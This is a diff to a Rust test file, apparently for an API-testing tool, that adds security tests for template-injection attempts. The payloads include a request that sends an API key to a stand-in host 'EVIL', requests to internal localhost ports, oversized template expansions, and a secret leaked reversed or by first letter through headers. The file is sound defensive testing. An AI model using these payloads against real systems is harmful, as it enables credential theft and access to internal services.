@@ -33,12 +33,19 @@ macro_rules! steps {
     };
 }
 
-const TRIED: [Attack<'static>; 13] = [
+const TRIED: [Attack<'static>; 15] = [
     (
         "a page of its own, told what it read",
         &[steps!("{ request: \"GET http://EVIL/?{{ profile.environments.test.api_key }}\", as: it }")],
     ),
-    ("a page that leads to its own", &[steps!("{ request: GET http://PARTNER/elsewhere, follow: true, as: it }")]),
+    (
+        "a page that leads to its own",
+        &[
+            ("trust", "", "\n    digest: sha256:DIGEST\n    hosts: { test: [127.0.0.7] }\n    reaches: [127.0.0.1]"),
+            steps!("{ request: GET http://PARTNER/elsewhere, follow: true, as: it }"),
+        ],
+    ),
+    ("another program on this machine", &[steps!("{ request: GET http://127.0.0.1:4010/private, as: it }")]),
     ("a page beside the provider", &[steps!("{ request: GET http://127.0.0.9:4010/, as: it }")]),
     ("what the build is told", &[request!("GET /?{{ profile.rehearsal.env.DATABASE }}")]),
     ("how an action is called", &[request!("GET /?{{ environment.actions.act.headers.Authorization }}")]),
@@ -55,6 +62,15 @@ const TRIED: [Attack<'static>; 13] = [
     (
         "an argument of every action that grows",
         &[REHEARSED, ANSWERED, ACTED, (PACK, "no. {{ n }}", "{{ 'x' * 1000000000 }}")],
+    ),
+    (
+        "the secret, backwards and letter by letter",
+        &[
+            REHEARSED,
+            DELIVERED,
+            ACCEPTED,
+            (PACK, MAC, "\"{{ mac }}\", X-Back: \"{{ secret | reverse }}\", X-First: \"{{ secret[:1] }}\""),
+        ],
     ),
     ("a header that grows", &[REHEARSED, DELIVERED, ACCEPTED, (PACK, MAC, "\"{{ mac }}{{ 'x' * 1000000000 }}\"")]),
     (
@@ -92,6 +108,31 @@ fn what_is_tried_in_a_run_gets_nothing_and_the_run_says_why() {
 }
 
 #[test]
+fn no_credential_is_open_because_a_pack_calls_it_a_name() {
+    let apis = "{ header: { X-Api-Key: \"{{ api_key }}\" } }";
+    let basic = "{ basic: { user: \"{{ credentials.secret }}\", password: \"{{ api_key }}\" } }";
+    let given = "api_key: ${KEY}\n    credentials: { secret: \"${DBPASS}\" }";
+    let ground = Ground::attacked(
+        "play",
+        &(
+            "a secret as a name",
+            &[
+                (PACK, apis, basic),
+                ("profile.yaml", "api_key: ${KEY}", given),
+                ("profile.yaml", "env: { DATABASE: \"postgres://app:${DBPASS}@db.internal/x\" }", "env: { A: b }"),
+                request!("GET /me?{{ profile.environments.test.credentials.secret }}"),
+                (CHECK, "status: 200", "status: 201"),
+            ],
+        ),
+    );
+    // The run itself looks for every secret in all that it wrote.
+    let ran = ground.run();
+    assert_eq!(ran.unit("it")["verdict"], "fail", "{}", ran.console);
+    let provider = ground.provider_heard();
+    assert!(provider.contains("GET /me?%3Ctest.credentials_secret%3E "), "{provider}");
+}
+
+#[test]
 fn what_looks_like_more_is_a_text_like_any_other() {
     let steps = "when: [{ request: \"GET /a?${KEY}&{{ profile.environments.test.api_key }}\", api: main, environment: test, as: it }, \
                  { action: act, with: { note: \"{{ '{{ preflight }}${KEY}' }}\" } }]";
@@ -102,4 +143,19 @@ fn what_looks_like_more_is_a_text_like_any_other() {
     assert!(provider.contains("GET /a?${KEY}&%3Ctest.api_key%3E "), "{provider}");
     assert!(provider.contains(SECRETS[0].1), "the header has the key: {provider}");
     assert!(partner.contains(r#"{"note":"{{ preflight }}${KEY}"}"#), "{partner}");
+}
+
+#[test]
+fn what_a_header_makes_of_a_secret_stands_in_no_report() {
+    let headers = "\"{{ mac }}\", X-Back: \"{{ secret | reverse }}\", X-First: \"{{ secret[:9] }}\"";
+    let ground = Ground::attacked("foreign", &("apart", &[REHEARSED, DELIVERED, ACCEPTED, (PACK, MAC, headers)]));
+    let ran = ground.run();
+    assert_eq!(ran.unit("it")["verdict"], "pass", "{}", ran.console);
+    assert!(ground.partner_heard().contains("1-terces-lasraeher"), "it was sent");
+    for file in ["out.json", "out.xml", "out.md"] {
+        let text = std::fs::read_to_string(ground.path("profile.yaml").with_file_name(file)).unwrap();
+        assert!(!text.contains("1-terces") && !text.contains("rehearsal-s"), "{file}: {text}");
+    }
+    let json = std::fs::read_to_string(ground.path("profile.yaml").with_file_name("out.json")).unwrap();
+    assert!(json.contains("<webhook_secret, changed>"), "{json}");
 }
